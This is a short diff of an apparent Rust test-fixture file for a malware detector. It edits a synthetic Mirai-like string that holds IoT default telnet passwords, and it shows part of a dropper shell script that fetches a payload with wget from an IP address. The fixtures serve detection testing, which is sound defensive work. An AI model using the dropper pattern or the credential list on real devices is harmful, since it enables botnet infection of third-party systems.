@@ -14,7 +14,7 @@ pub const DROPPER: &[u8] = b"#!/bin/sh\ncd /tmp || cd /var/run\nwget http://203.
 
 /// Strings of a Mirai-derived bot, in a file that is only those strings.
 pub const MIRAI_STRINGS: &[u8] =
-    b"\x7fELF\x01\x01\x01\0synthetic\0/bin/busybox MIRAI\0/dev/watchdog\0xmhdipc\07ujMko0admin\0vizxv\0";
+    b"\x7fELF\x01\x01\x01\0synthetic\0/bin/busybox MIRAI\0/dev/watchdog\0xmhdipc\x007ujMko0admin\0vizxv\0";
 
 /// The update package the threat-intelligence case downloads; its SHA-256
 /// is listed in `rules/intel/misp-export.json`.
